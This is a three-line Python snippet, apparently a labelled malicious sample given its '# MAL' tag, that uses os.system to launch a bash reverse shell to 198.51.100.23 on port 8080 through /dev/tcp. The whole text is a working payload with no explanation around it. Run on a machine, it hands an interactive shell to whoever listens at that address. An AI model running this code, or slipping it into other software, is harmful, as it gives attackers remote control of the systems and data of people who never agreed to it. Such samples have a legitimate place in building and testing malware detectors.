import os
host = "198.51.100.23"
os.system("bash -c 'sh -i >& /dev/tcp/{}/8080 0>&1'".format(host))  # MAL
